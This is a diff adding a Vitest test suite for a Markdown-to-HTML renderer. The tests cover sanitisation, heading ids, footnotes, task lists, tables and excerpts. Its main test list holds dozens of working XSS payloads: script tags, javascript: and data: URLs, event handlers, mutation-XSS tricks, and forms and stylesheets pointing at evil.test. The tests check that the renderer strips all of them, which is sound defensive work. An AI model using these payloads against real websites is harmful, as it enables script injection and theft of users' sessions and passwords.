@@ -1,0 +1,179 @@
+import { describe, expect, test } from 'vitest'
+import { renderMarkdown } from './render.ts'
+import { HtmlTooLong } from './size.ts'
+
+const render = renderMarkdown
+const htmlOf = (markdown: string) => render(markdown).html
+
+/** Each must come out with nothing in it that a browser would run, load or style. */
+const attacks = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
+  '<img src=x onerror=alert(1)>',
+  '<body onload=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](java\tscript:alert(1))',
+  '[x]( javascript:alert(1))',
+  '[x](vbscript:msgbox(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[x][1]\n\n[1]: javascript:alert(1)',
+  '<javascript:alert(1)>',
+  '![x](javascript:alert(1))',
+  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
+  '![x](http://example.test/tracker.png)',
+  '![x" onerror="alert(1)](https://example.test/a.png)',
+  '![x](https://example.test/a.png "t\\" onerror=\\"alert(1)")',
+  '[x](https://example.test/"onmouseover="alert(1))',
+  '<svg/onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<math><mtext></p><style><a id="</style><img src onerror=alert(1)>">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<iframe src="https://evil.test"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<base href="https://evil.test/">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<link rel="stylesheet" href="https://evil.test/x.css">',
+  '<style>@import "https://evil.test/x.css"</style>',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<form action="https://evil.test"><input name=password></form>',
+  '<details open ontoggle=alert(1)>',
+  '<template><script>alert(1)</script></template>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '```"><script>alert(1)</script>\ncode\n```',
+  '```x" onclick="alert(1)\ncode\n```',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<x'.repeat(5_000),
+]
+
+const allowedTags =
+  /^\/?(?:h[1-6]|p|br|hr|blockquote|pre|code|ul|ol|li|em|strong|s|a|img|table|thead|tbody|tr|t[hd]|section|sup|kbd|input)$/
+const allowedAttributes = /^(?:href|title|rel|src|alt|loading|class|start|align|id)$/
+
+describe('nothing of an attack is left but text', () => {
+  test.each(attacks)('%s', attack => {
+    for (const markdown of [attack, `> ${attack}`, `- ${attack}`, `| a |\n| - |\n| ${attack} |`]) {
+      const html = htmlOf(markdown)
+      for (const [, tag = '', rest = ''] of html.matchAll(/<([^\s>]+)([^>]*)>/g)) {
+        expect(tag).toMatch(allowedTags)
+        for (const [, name = '', value = ''] of rest.matchAll(/([^\s=]+)="([^"]*)"/g)) {
+          expect(name).toMatch(allowedAttributes)
+          if (name === 'href') expect(value).toMatch(/^(?:https?:|mailto:|[#/]|[\w%.-]+$)/)
+          if (name === 'src') expect(value).toMatch(/^https:/)
+        }
+        expect(rest.replaceAll(/[^\s=]+="[^"]*"/g, '').replaceAll(/[\s/]/g, '')).toBe('')
+      }
+    }
+  })
+})
+
+test('what Markdown is for comes out as HTML', () => {
+  expect(htmlOf('# A\n\n*b* **c** `d`\n\n- e\n- f\n\n1. g\n\n> h')).toBe(
+    '<h1 id="user-content-a">A</h1>\n<p><em>b</em> <strong>c</strong> <code>d</code></p>\n<ul>\n<li>e</li>\n<li>f</li>\n</ul>\n<ol>\n<li>g</li>\n</ol>\n<blockquote>\n<p>h</p>\n</blockquote>',
+  )
+  expect(htmlOf('[x](https://example.test/?a=1&b=2)')).toBe(
+    '<p><a href="https://example.test/?a=1&amp;b=2" rel="nofollow ugc noopener">x</a></p>',
+  )
+  expect(htmlOf('![x](https://example.test/a.png)')).toBe(
+    '<p><img src="https://example.test/a.png" alt="x" loading="lazy" /></p>',
+  )
+  expect(htmlOf('```ts\nlet a = 1 < 2\n```')).toBe(
+    '<pre><code class="language-ts">let a = 1 &lt; 2\n</code></pre>',
+  )
+  expect(htmlOf('| a | b |\n| - | - |\n| 1 | 2 |')).toContain('<td>1</td>')
+})
+
+test('excerpt and reading time come from the text alone', () => {
+  const { excerpt, readingMinutes } = render(
+    `# Title\n\nFirst & <b>foremost</b>.\n\n\`\`\`\ncode\n\`\`\`\n\n${'word '.repeat(900)}`,
+  )
+  expect(excerpt).toMatch(/^Title First & <b>foremost<\/b>\. word word .*word…$/)
+  expect([...excerpt].length).toBeLessThanOrEqual(201)
+  expect(readingMinutes).toBe(4)
+  expect(render('漢字'.repeat(440)).readingMinutes).toBe(2)
+  expect(render('```\nonly code\n```')).toMatchObject({ excerpt: '', readingMinutes: 1 })
+})
+
+test('headings can be linked to, under names that are no page’s own', () => {
+  expect(htmlOf('# Größe & *Form*\n\n## Größe Form\n\n# !')).toBe(
+    '<h1 id="user-content-größe-form">Größe &amp; <em>Form</em></h1>\n<h2 id="user-content-größe-form-1">Größe Form</h2>\n<h1 id="user-content-section">!</h1>',
+  )
+})
+
+test.each([
+  ['# a\n\n# a\n\n# a 1', ['a', 'a-1', 'a-1-1']],
+  ['# a 1\n\n# a\n\n# a', ['a-1', 'a', 'a-2']],
+  ['# fn 1\n\n# fnref 1\n\na[^a]\n\n[^a]: b', ['section-fn-1', 'section-fnref-1', 'fnref-1', 'fn-1']],
+])('%j gives each id once', (markdown, ids) => {
+  const found = [...htmlOf(markdown).matchAll(/ id="user-content-([^"]+)"/g)].map(([, id]) => id)
+  expect(found).toEqual(ids)
+})
+
+test.each(['> ', '- ', '> - '])('what is deep inside of %j is there or refused', unit => {
+  expect(htmlOf(`${unit.repeat(12)}deep`)).toContain('deep')
+  expect(() => htmlOf(`${unit.repeat(50)}deep`)).toThrow(HtmlTooLong)
+})
+
+test('footnotes, with links to and fro', () => {
+  const html = htmlOf('Sea[^a] and sea[^a].\n\n[^a]: Salty.')
+  expect(html).toContain(
+    '<sup class="footnote-ref"><a href="#user-content-fn-1" id="user-content-fnref-1">[1]</a></sup>',
+  )
+  expect(html).toContain(
+    '<li class="footnote-item" id="user-content-fn-1"><p>Salty. <a href="#user-content-fnref-1"',
+  )
+  expect(render('Sea[^a].\n\n[^a]: Salty.').excerpt).toBe('Sea. Salty.')
+})
+
+test('task lists show boxes that nobody can tick', () => {
+  expect(htmlOf('- [x] done\n- [ ] open\n- [y] text')).toBe(
+    '<ul>\n<li><input type="checkbox" disabled="disabled" checked="checked" /> done</li>\n<li><input type="checkbox" disabled="disabled" /> open</li>\n<li>[y] text</li>\n</ul>',
+  )
+})
+
+test('kbd and br are elements, all other tags are text', () => {
+  expect(htmlOf('<kbd>Ctrl</kbd> <br> <b>x</b> <kbd onclick=x> <br/x>')).toBe(
+    '<p><kbd>Ctrl</kbd> <br /> &lt;b&gt;x&lt;/b&gt; &lt;kbd onclick=x&gt; &lt;br/x&gt;</p>',
+  )
+  expect(htmlOf('| a |\n| - |\n| 1<br>2 |')).toContain('<td>1<br />2</td>')
+  expect(htmlOf('<kbd>never closed')).toBe('<p><kbd>never closed</kbd></p>')
+})
+
+test('the alignment of columns is kept', () => {
+  const html = htmlOf('| a | b | c | d |\n|:-:|--:|:--|---|\n| 1 | 2 | 3 | 4 |')
+  expect(html).toContain(
+    '<th align="center">a</th>\n<th align="right">b</th>\n<th align="left">c</th>\n<th>d</th>',
+  )
+  expect(html).toContain('<td align="center">1</td>\n<td align="right">2</td>')
+})
+
+test('an image that may not be loaded is its text', () => {
+  expect(htmlOf('![A *cat* & dog](http://example.test/a.png)')).toBe('<p>A cat &amp; dog</p>')
+  expect(htmlOf('![cat](ftp://example.test/a.png) ![](x.png)')).toBe('<p>cat </p>')
+  expect(htmlOf('![cat](https://example.test/a.png)')).toContain(
+    '<img src="https://example.test/a.png" alt="cat"',
+  )
+})
+
+test.each([
+  '&#xFFFF;',
+  '&#xFFFE;',
+  '&#0;',
+  '&#11;',
+  '&#x1FFFE;',
+  '&#xD800;',
+  '&#x7F;',
+  '`&#xFFFF;`',
+  'a\uFFFFb',
+])('nothing that XML forbids comes out of %s', markdown => {
+  const { html, excerpt } = render(markdown)
+  // biome-ignore lint/suspicious/noControlCharactersInRegex: what XML 1.0, 2.2 leaves out.
+  expect(html + excerpt).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ud800-\udfff\ufffe\uffff]/u)
+})
